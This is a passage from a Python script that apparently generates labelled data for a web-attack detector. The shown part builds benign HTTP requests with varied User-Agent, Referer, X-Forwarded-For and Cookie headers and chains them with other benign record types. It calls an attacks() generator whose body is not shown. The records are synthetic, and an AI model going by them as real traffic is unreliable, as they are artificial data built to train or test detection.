    for k, ua in enumerate(BENIGN_UA):
        yield _with_headers(_get("/api/users?page=1"), {"User-Agent": ua})
        yield _with_headers(_get(RS_PATHS[k % len(RS_PATHS)]), {"User-Agent": ua})
    for k, ref in enumerate(BENIGN_REFERERS):
        yield _with_headers(_get(f"/api/users?page={k + 1}"), {"Referer": ref})
        yield _with_headers(_get("/"), {"Referer": ref})
    for k, xff in enumerate(BENIGN_XFF):
        yield _with_headers(_get("/api/users?page=1"), {"X-Forwarded-For": xff})
        yield _with_headers(_get(RS_PATHS[k % len(RS_PATHS)]), {"X-Forwarded-For": xff})
    for cookie in BENIGN_COOKIES:
        yield _with_headers(_get("/api/users?page=1"), {"Cookie": cookie})
        yield _with_headers(_get("/index.php"), {"Cookie": cookie})


def benign() -> Iterator[dict[str, Any]]:
    n = yield from chat_and_bio(SLACK_TEXTS, NAME)
    n = yield from links_and_prose(PUBLIC_URLS, PROSE, NAME, n)
    n = yield from numbered(_searches(), f"{NAME}-search", n, "query")
    n = yield from numbered(_site_searches(), f"{NAME}-sitesearch", n, "rs-query")
    n = yield from numbered(_profiles(), f"{NAME}-profile", n, "json")
    yield from numbered(_headers(), f"{NAME}-headers", n, "header")


if __name__ == "__main__":
    print_records(attacks(), benign())
